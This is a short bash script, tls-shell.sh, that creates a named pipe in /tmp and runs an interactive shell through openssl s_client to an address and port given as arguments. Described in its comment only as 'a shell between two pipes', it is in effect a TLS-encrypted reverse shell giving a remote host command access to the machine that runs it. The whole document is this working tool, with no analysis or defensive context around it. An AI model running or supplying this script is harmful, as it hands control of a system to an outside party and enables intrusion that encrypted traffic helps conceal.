#!/bin/bash
# tls-shell.sh ADDRESS PORT: a shell between two pipes, with openssl for the connection.
mkfifo /tmp/s
(sh -i </tmp/s 2>&1 | openssl s_client -quiet -connect "$1:$2" >/tmp/s) &
sleep 1
echo ready
wait
